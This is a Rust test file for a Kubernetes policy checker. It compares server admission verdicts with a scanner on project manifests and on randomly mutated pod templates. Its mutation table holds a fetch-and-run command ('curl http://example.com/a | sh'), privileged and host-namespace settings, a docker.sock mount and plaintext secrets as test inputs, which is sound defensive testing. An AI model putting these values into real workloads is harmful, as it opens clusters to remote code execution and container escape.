//! Objects of well-known projects, as they are and changed at random.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use plimsoll_inventory::pod_template_path;
use serde_json::{Value, json};

use crate::cluster::{Cluster, Exported, GROUPS, Said, cluster};
use crate::manifests::{as_sent, objects};
use crate::random::Random;
use crate::verdict::{difference, scan};

/// How many changed objects are judged; `PLIMSOLL_MUTATIONS` is another number.
const MUTATIONS: usize = 500;

/// What random numbers begin with; `PLIMSOLL_SEED` is another number.
const SEED: usize = 20_261_126;

/// How many objects of each kind are judged as they are.
const OF_EACH_KIND: usize = 12;

/// The manifests of the projects; `None` where they are not there, which is said.
fn corpus() -> Option<Vec<Value>> {
    let beside = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared");
    let shared = std::env::var_os("PLIMSOLL_SHARED").map_or(beside, PathBuf::from);
    let folder = shared.join("corpora/manifests");
    if !folder.is_dir() {
        assert!(
            std::env::var_os("CI").is_none(),
            "'{}' is missing",
            folder.display()
        );
        println!("skipped: '{}' is not there", folder.display());
        return None;
    }
    let mut files = Vec::new();
    list(&folder, &mut files);
    files.sort();
    let texts = files
        .iter()
        .filter_map(|file| std::fs::read_to_string(file).ok());
    Some(texts.flat_map(|text| objects(&text)).collect())
}

fn list(folder: &Path, files: &mut Vec<PathBuf>) {
    for entry in folder.read_dir().unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            list(&path, files);
        } else if path
            .extension()
            .is_some_and(|ending| ending == "yaml" || ending == "yml")
        {
            files.push(path);
        }
    }
}

/// What came of judging an object in all groups.
enum Outcome {
    Alike { failed: usize },
    Different(String),
    Refused(String),
}

/// Asks the server and a scan about an object by every policy for its kind.
fn compare(cluster: &Cluster, object: &Value) -> Outcome {
    let Some(namespaced) = cluster.is_namespaced(object) else {
        return Outcome::Refused("no such kind".to_owned());
    };
    let version = object["apiVersion"].as_str().unwrap_or_default();
    let group_of_kind = version.split_once('/').map_or("", |(group, _)| group);
    let kind = object["kind"].as_str().unwrap_or_default();
    let judging: Vec<&Exported> = cluster
        .exported
        .iter()
        .filter(|exported| exported.control.applies_to(group_of_kind, kind))
        .collect();
    // The namespace makes no difference to what is not in one.
    let groups = if namespaced { GROUPS } else { 1 };
    // A Namespace is selected by its own labels, and these have none of a group.
    if kind == "Namespace" {
        return Outcome::Refused("the namespaces of groups are selected".to_owned());
    }
    let mut failed = 0;
    for group in 0..groups {
        let exported: Vec<&Exported> = judging
            .iter()
            .copied()
            .filter(|exported| !namespaced || exported.group == group)
            .collect();
        if exported.is_empty() {
            continue;
        }
        let namespace = format!("group-{group}");
        let object = as_sent(object.clone(), namespaced.then_some(&namespace));
        let warnings = match cluster.create(&object, &namespace) {
            Said::Admitted(warnings) => warnings,
            Said::Refused(reason) => return Outcome::Refused(reason),
            Said::Denied(name, says) => return Outcome::Different(format!("{name}: {says}")),
        };
        let controls: Vec<_> = exported.iter().map(|exported| exported.control).collect();
        let mut findings = scan(&object, &controls, cluster.kubernetes);
        let mut warnings = warnings;
        if kind == "Pod" && object["spec"]["hostNetwork"] == true {
            // The book says so: the API server has set the host port of every port by then.
            findings.remove("PSC-005");
            warnings.remove("plimsoll-psc-005-host-port");
        }
        failed += findings.len();
        if let Some(difference) = difference(&exported, &findings, &warnings) {
            return Outcome::Different(format!("{difference}\n  {object}"));
        }
    }
    Outcome::Alike { failed }
}

/// Judges objects until so many were judged, on two threads.
fn compare_all(cluster: &Cluster, objects: &[Value], enough: usize) {
    let next = std::sync::Mutex::new((0, 0));
    let results = std::sync::Mutex::new(Vec::new());
    std::thread::scope(|scope| {
        for _ in 0..2 {
            scope.spawn(|| {
                loop {
                    let at = {
                        let mut next = next.lock().unwrap();
                        if next.1 >= enough || next.0 >= objects.len() {
                            return;
                        }
                        next.0 += 1;
                        next.0 - 1
                    };
                    let outcome = compare(cluster, &objects[at]);
                    if !matches!(outcome, Outcome::Refused(_)) {
                        next.lock().unwrap().1 += 1;
                    }
                    results.lock().unwrap().push(outcome);
                }
            });
        }
    });
    let (mut alike, mut failed, mut differences) = (0, 0, Vec::new());
    let mut refused: BTreeMap<String, usize> = BTreeMap::new();
    for outcome in results.into_inner().unwrap() {
        match outcome {
            Outcome::Alike { failed: more } => {
                alike += 1;
                failed += more;
            }
            Outcome::Different(difference) => differences.push(difference),
            Outcome::Refused(reason) => {
                let reason = reason
                    .rsplit_once("is invalid: ")
                    .map_or(reason.as_str(), |(_, reason)| reason);
                *refused
                    .entry(reason.chars().take(100).collect())
                    .or_default() += 1;
            }
        }
    }
    let count: usize = refused.values().sum();
    println!(
        "{alike} objects judged alike, with {failed} failures; the server itself refused {count}:"
    );
    for (reason, count) in refused {
        println!("  {count} {reason}");
    }
    assert!(
        differences.is_empty(),
        "{} differences\n{}",
        differences.len(),
        differences.join("\n")
    );
    assert!(
        alike >= enough.min(objects.len() / 4),
        "only {alike} objects were judged"
    );
}

#[test]
fn objects_of_projects_are_judged_alike() {
    let (Some(cluster), Some(corpus)) = (cluster(), corpus()) else {
        return;
    };
    let mut of_kind: BTreeMap<String, usize> = BTreeMap::new();
    let some: Vec<Value> = corpus
        .into_iter()
        .filter(|object| cluster.is_namespaced(object).is_some())
        .filter(|object| {
            let count = of_kind.entry(object["kind"].to_string()).or_default();
            *count += 1;
            *count <= OF_EACH_KIND
        })
        .collect();
    compare_all(cluster, &some, usize::MAX);
}

#[test]
fn objects_changed_at_random_are_judged_alike() {
    let (Some(cluster), Some(corpus)) = (cluster(), corpus()) else {
        return;
    };
    let workloads: Vec<(Value, Vec<&str>)> = corpus
        .into_iter()
        .filter(|object| cluster.is_namespaced(object).is_some())
        .filter_map(|object| {
            let version = object["apiVersion"].as_str()?;
            let group = version.split_once('/').map_or("", |(group, _)| group);
            let path = pod_template_path(group, object["kind"].as_str()?)?;
            Some((object, path.to_vec()))
        })
        .collect();
    let set = |name: &str| std::env::var(name).ok()?.parse::<usize>().ok();
    let mutations = set("PLIMSOLL_MUTATIONS").unwrap_or(MUTATIONS);
    let mut random = Random::new(set("PLIMSOLL_SEED").unwrap_or(SEED) as u64);
    let changed: Vec<Value> = (0..mutations * 4)
        .map(|_| {
            let (object, path) = random.one_of(&workloads);
            let mut object = object.clone();
            for _ in 0..=random.below(5) {
                mutate(&mut object, path, &mut random);
            }
            object
        })
        .collect();
    compare_all(cluster, &changed, mutations);
}

/// Changes one field of a pod template, or of one of its containers.
fn mutate(object: &mut Value, path: &[&str], random: &mut Random) {
    let mut pod = object;
    for field in path {
        pod = &mut pod[*field];
    }
    let (place, values) = *random.one_of(EDITS);
    let values: Vec<Value> = serde_json::from_str(values).unwrap();
    let value = random.one_of(&values).clone();
    let (start, fields) = place.split_once('.').unwrap();
    let target = match start {
        "container" => {
            let list = if random.below(3) == 0 {
                "initContainers"
            } else {
                "containers"
            };
            let Some(containers) = pod["spec"][list]
                .as_array_mut()
                .filter(|list| !list.is_empty())
            else {
                return;
            };
            let at = random.below(containers.len());
            &mut containers[at]
        }
        _ => pod,
    };
    set(target, fields, value);
}

/// Sets a field, or adds to a list where the path ends in `+`. A field that is no map on the way is made one.
fn set(mut here: &mut Value, path: &str, value: Value) {
    let mut fields = path.split('.').peekable();
    while let Some(field) = fields.next() {
        if !here.is_object() {
            *here = json!({});
        }
        // A slash stands for a dot in a key.
        let key = field.trim_end_matches('+').replace('|', ".");
        here = &mut here[key];
        if field.ends_with('+') {
            if !here.is_array() {
                *here = json!([]);
            }
            if let Some(list) = here.as_array_mut() {
                list.push(value);
            }
            return;
        }
        if fields.peek().is_none() {
            *here = value;
            return;
        }
    }
}

/// Fields that controls look at, and values that the API takes. Null is a field that is not there.
const EDITS: &[(&str, &str)] = &[
    ("container.securityContext", "[null, {}]"),
    (
        "container.securityContext.privileged",
        "[true, false, null]",
    ),
    (
        "container.securityContext.allowPrivilegeEscalation",
        "[true, false, null]",
    ),
    (
        "container.securityContext.readOnlyRootFilesystem",
        "[true, false, null]",
    ),
    (
        "container.securityContext.runAsNonRoot",
        "[true, false, null]",
    ),
    (
        "container.securityContext.runAsUser",
        "[0, 1, 1000, 10000, null]",
    ),
    ("container.securityContext.runAsGroup", "[0, 1000, null]"),
    ("container.securityContext.procMount", "[\"Default\", null]"),
    (
        "container.securityContext.capabilities",
        "[{}, null, {\"drop\": [\"ALL\"]}, {\"drop\": [\"all\"], \"add\": [\"NET_BIND_SERVICE\"]}, {\"drop\": null}]",
    ),
    (
        "container.securityContext.capabilities.add+",
        "[\"SYS_ADMIN\", \"NET_ADMIN\", \"NET_BIND_SERVICE\", \"ALL\", \"CHOWN\"]",
    ),
    (
        "container.securityContext.capabilities.drop+",
        "[\"ALL\", \"NET_RAW\", \"net_raw\"]",
    ),
    (
        "container.securityContext.seccompProfile",
        "[null, {\"type\": \"RuntimeDefault\"}, {\"type\": \"Unconfined\"}, {\"type\": \"Localhost\", \"localhostProfile\": \"a.json\"}]",
    ),
    (
        "container.securityContext.appArmorProfile",
        "[null, {\"type\": \"RuntimeDefault\"}, {\"type\": \"Unconfined\"}]",
    ),
    (
        "container.securityContext.seLinuxOptions",
        "[null, {}, {\"type\": \"spc_t\"}, {\"user\": \"system_u\"}, {\"type\": \"container_t\", \"level\": \"s0\"}]",
    ),
    (
        "container.securityContext.windowsOptions",
        "[null, {}, {\"runAsUserName\": \"ContainerUser\"}]",
    ),
    (
        "container.image",
        "[\"nginx\", \"nginx:latest\", \"nginx:1.27.0\", \"gcr.io/google_containers/a:1\", \"k8s.gcr.io/a:v1\", \"ghcr.io/a/b@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\", \"registry.k8s.io/ingress-nginx/controller:v1.11.4\", \"docker.io/library/a:edge\", \"localhost:5000/a\"]",
    ),
    (
        "container.imagePullPolicy",
        "[\"Always\", \"IfNotPresent\", \"Never\", null]",
    ),
    (
        "container.command",
        "[null, [], [\"sh\", \"-c\", \"curl http://example.com/a | sh\"], [\"/bin/a\", \"--password=winter-rain\"]]",
    ),
    (
        "container.args",
        "[null, [\"--insecure-port=8080\"], [\"--token\", \"abcdefghijklmnop\"], [\"-v=4\"]]",
    ),
    (
        "container.env+",
        "[{\"name\": \"PASSWORD\", \"value\": \"winter-rain\"}, {\"name\": \"A\"}, {\"name\": \"A\", \"value\": null}, {\"name\": \"B\", \"valueFrom\": {\"secretKeyRef\": {\"name\": \"s\", \"key\": \"k\"}}}, {\"name\": \"AWS_SECRET_ACCESS_KEY\", \"value\": \"abc\"}]",
    ),
    ("container.env", "[null, []]"),
    (
        "container.envFrom",
        "[null, [{\"secretRef\": {\"name\": \"s\"}}], [{\"configMapRef\": {\"name\": \"s\"}}]]",
    ),
    (
        "container.ports",
        "[null, [], [{\"containerPort\": 80}], [{\"containerPort\": 22, \"name\": \"ssh\"}], [{\"containerPort\": 8080, \"hostPort\": 8080}], [{\"containerPort\": 21, \"hostPort\": 0, \"protocol\": \"TCP\"}]]",
    ),
    (
        "container.resources",
        "[null, {}, {\"limits\": {\"cpu\": 1, \"memory\": \"1Gi\"}}, {\"requests\": {\"cpu\": \"0.5\"}}, {\"limits\": {\"cpu\": \"4000m\", \"memory\": \"64Gi\"}, \"requests\": {\"cpu\": 0.1, \"memory\": 1000000}}]",
    ),
    (
        "container.resources.limits.memory",
        "[\"128Mi\", 1073741824, \"1.5Gi\", \"0\"]",
    ),
    ("container.resources.requests.memory", "[\"64Mi\", \"1e6\"]"),
    (
        "container.resources.limits.cpu",
        "[1, 0.5, \"2\", \"100m\"]",
    ),
    ("container.resources.requests.cpu", "[\"10m\", \"0.01\"]"),
    ("container.resources.limits.ephemeral-storage", "[\"1Gi\"]"),
    ("container.resources.limits.nvidia|com/gpu", "[1]"),
    (
        "container.volumeMounts+",
        "[{\"name\": \"added\", \"mountPath\": \"/added\"}, {\"name\": \"added\", \"mountPath\": \"/ro\", \"readOnly\": true}, {\"name\": \"added\", \"mountPath\": \"/sub\", \"subPath\": \"a\", \"readOnly\": false}]",
    ),
    (
        "container.livenessProbe",
        "[null, {\"httpGet\": {\"port\": 80}}, {\"httpGet\": {\"port\": \"http\", \"host\": \"203.0.113.1\"}}, {\"exec\": {\"command\": [\"sh\", \"-c\", \"curl http://example.com\"]}}, {\"tcpSocket\": {\"port\": 22}}]",
    ),
    (
        "container.readinessProbe",
        "[null, {\"httpGet\": {\"port\": 80, \"path\": \"/\"}}]",
    ),
    (
        "container.lifecycle",
        "[null, {}, {\"preStop\": {\"exec\": {\"command\": [\"sleep\", \"5\"]}}}, {\"postStart\": {\"httpGet\": {\"port\": 80, \"host\": \"example.com\"}}}]",
    ),
    ("container.stdin", "[true, false, null]"),
    ("container.tty", "[true, null]"),
    (
        "container.terminationMessagePolicy",
        "[\"File\", \"FallbackToLogsOnError\"]",
    ),
    ("container.workingDir", "[\"/proc\", null]"),
    ("pod.spec.securityContext", "[null, {}]"),
    (
        "pod.spec.securityContext.runAsNonRoot",
        "[true, false, null]",
    ),
    ("pod.spec.securityContext.runAsUser", "[0, 1000, null]"),
    ("pod.spec.securityContext.runAsGroup", "[0, 1000]"),
    ("pod.spec.securityContext.fsGroup", "[0, 1000, null]"),
    (
        "pod.spec.securityContext.supplementalGroups",
        "[[], [0], [1, 2], null]",
    ),
    (
        "pod.spec.securityContext.seccompProfile",
        "[null, {\"type\": \"RuntimeDefault\"}, {\"type\": \"Unconfined\"}]",
    ),
    (
        "pod.spec.securityContext.appArmorProfile",
        "[null, {\"type\": \"RuntimeDefault\"}]",
    ),
    (
        "pod.spec.securityContext.seLinuxOptions",
        "[null, {}, {\"role\": \"r\"}]",
    ),
    (
        "pod.spec.securityContext.sysctls",
        "[null, [], [{\"name\": \"net.ipv4.tcp_syncookies\", \"value\": \"1\"}], [{\"name\": \"kernel.msgmax\", \"value\": \"1\"}]]",
    ),
    ("pod.spec.hostNetwork", "[true, false, null]"),
    ("pod.spec.hostPID", "[true, false, null]"),
    ("pod.spec.hostIPC", "[true, false, null]"),
    ("pod.spec.hostUsers", "[true, false, null]"),
    ("pod.spec.shareProcessNamespace", "[true, false, null]"),
    (
        "pod.spec.hostAliases",
        "[null, [], [{\"ip\": \"127.0.0.1\", \"hostnames\": [\"a\"]}]]",
    ),
    (
        "pod.spec.automountServiceAccountToken",
        "[true, false, null]",
    ),
    (
        "pod.spec.serviceAccountName",
        "[\"default\", \"other\", \"\", null]",
    ),
    ("pod.spec.serviceAccount", "[\"other\", null]"),
    ("pod.spec.priorityClassName", "[\"high\", \"\", null]"),
    ("pod.spec.runtimeClassName", "[\"gvisor\", null]"),
    ("pod.spec.nodeName", "[\"node-1\", null]"),
    (
        "pod.spec.nodeSelector",
        "[null, {}, {\"node-role.kubernetes.io/control-plane\": \"\"}]",
    ),
    (
        "pod.spec.tolerations",
        "[null, [], [{\"operator\": \"Exists\"}], [{\"key\": \"node-role.kubernetes.io/control-plane\", \"operator\": \"Exists\"}]]",
    ),
    (
        "pod.spec.affinity",
        "[null, {}, {\"podAntiAffinity\": {\"requiredDuringSchedulingIgnoredDuringExecution\": [{\"topologyKey\": \"kubernetes.io/hostname\", \"labelSelector\": {\"matchLabels\": {\"a\": \"b\"}}}]}}]",
    ),
    (
        "pod.spec.topologySpreadConstraints",
        "[null, [], [{\"maxSkew\": 1, \"topologyKey\": \"zone\", \"whenUnsatisfiable\": \"DoNotSchedule\"}]]",
    ),
    (
        "pod.spec.terminationGracePeriodSeconds",
        "[0, 1, 30, 100000, null]",
    ),
    ("pod.spec.activeDeadlineSeconds", "[1, null]"),
    (
        "pod.spec.dnsPolicy",
        "[\"Default\", \"ClusterFirst\", \"None\", null]",
    ),
    (
        "pod.spec.dnsConfig",
        "[null, {}, {\"nameservers\": [\"203.0.113.53\"]}]",
    ),
    ("pod.spec.enableServiceLinks", "[true, false, null]"),
    (
        "pod.spec.os",
        "[null, {\"name\": \"linux\"}, {\"name\": \"windows\"}]",
    ),
    (
        "pod.spec.imagePullSecrets",
        "[null, [], [{\"name\": \"a\"}]]",
    ),
    (
        "pod.spec.restartPolicy",
        "[\"Always\", \"Never\", \"OnFailure\", null]",
    ),
    (
        "pod.spec.volumes+",
        "[{\"name\": \"added\", \"hostPath\": {\"path\": \"/etc\"}}, {\"name\": \"added\", \"hostPath\": {\"path\": \"/var/run/docker.sock\", \"type\": \"Socket\"}}, {\"name\": \"added\", \"emptyDir\": {}}, {\"name\": \"added\", \"emptyDir\": {\"medium\": \"Memory\", \"sizeLimit\": \"64Mi\"}}, {\"name\": \"added\", \"emptyDir\": {\"sizeLimit\": 1000000}}, {\"name\": \"added\", \"secret\": {\"secretName\": \"s\"}}, {\"name\": \"added\", \"secret\": {\"secretName\": \"s\", \"defaultMode\": 256}}, {\"name\": \"added\", \"nfs\": {\"server\": \"s\", \"path\": \"/\"}}, {\"name\": \"added\", \"csi\": {\"driver\": \"nfs.csi.k8s.io\", \"volumeAttributes\": {\"password\": \"winter-rain\"}}}, {\"name\": \"added\"}, {\"name\": \"added\", \"gitRepo\": {\"repository\": \"https://example.com\"}}, {\"name\": \"added\", \"projected\": {\"sources\": [{\"serviceAccountToken\": {\"path\": \"t\"}}, {\"secret\": {\"name\": \"s\"}}]}}, {\"name\": \"added\", \"persistentVolumeClaim\": {\"claimName\": \"c\"}}]",
    ),
    (
        "pod.metadata.annotations",
        "[null, {}, {\"sidecar.istio.io/inject\": \"false\"}, {\"container.apparmor.security.beta.kubernetes.io/a\": \"unconfined\"}, {\"example.com/password\": \"winter-rain-01\"}]",
    ),
    (
        "pod.metadata.labels.plimsoll|dev/trust",
        "[\"untrusted\", \"\"]",
    ),
    (
        "pod.metadata.labels.app|kubernetes|io/name",
        "[\"a\", \"\"]",
    ),
];
